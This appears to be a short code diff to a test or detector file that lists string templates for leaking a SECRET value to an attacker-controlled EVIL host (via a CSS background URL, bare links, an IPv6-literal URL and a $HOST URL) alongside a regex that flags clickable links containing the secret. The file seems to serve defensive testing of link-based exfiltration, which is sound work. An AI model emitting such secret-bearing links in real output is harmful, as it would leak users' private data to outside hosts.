@@ -43,6 +43,8 @@ FORMS = (
     f"<style>a{{background:url({EVIL}/{SECRET})}}</style>",
     f"{EVIL}/a(b)c?d={SECRET}",
     f"看{EVIL}/?d={SECRET}。",
+    f"https://[2001:4860:4860::8888]/?d={SECRET}",
+    f"http://$HOST/{SECRET}",
 )
 _CLICKABLE = re.compile(
     r"(?i)(?:[a-z][a-z0-9+.-]*:/*|(?<!\[:\])//|(?<![\[\].\w])(?:[\w-]+\.)+[a-z]{2,}/?)[^\n>]*?" + SECRET
